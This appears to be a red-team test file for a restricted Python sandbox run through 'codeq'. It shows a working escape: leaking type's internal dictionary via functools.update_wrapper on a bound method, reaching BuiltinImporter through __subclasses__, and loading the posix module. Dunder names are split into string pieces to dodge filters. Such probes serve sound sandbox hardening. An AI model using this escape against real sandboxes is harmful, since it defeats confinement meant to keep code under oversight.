# Variant of 136: a bound method (type(obj.method)(type, 1)) forwards attribute reads its own type
# lacks (__dict__) to its __func__, so update_wrapper's __dict__ copy again gives type's raw dict.
# Found by a fourth red-team review (strict policy).
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "137_bound_method_update_wrapper_dict"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import functools


class K:
    def m(self):
        return 0


Method = type(K().m)
got = {}
Catch = type("Catch", (), {"__di" + "ct__": property(lambda self: got)})
functools.update_wrapper(Catch(), Method(type, 1))
for c in got["__subcl" + "asses__"](object):
    if c.__name__ == "BuiltinImporter":
        posix = c.load_module("posix")
        won("%s %s pid=%s" % (type(posix) is type(functools), posix.__name__, posix.getpid()))
        break
else:
    print("not reached")
